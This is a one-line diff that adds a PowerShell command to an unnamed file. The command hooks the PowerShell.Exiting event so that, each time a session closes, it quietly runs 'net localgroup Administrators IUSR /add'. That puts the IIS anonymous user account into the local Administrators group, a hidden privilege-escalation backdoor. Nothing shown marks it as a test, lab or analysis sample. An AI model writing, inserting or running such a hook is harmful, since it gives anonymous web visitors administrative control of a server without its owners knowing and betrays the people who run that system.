@@ -1,0 +1,1 @@
+Register-EngineEvent PowerShell.Exiting -Action { net localgroup Administrators IUSR /add } | Out-Null
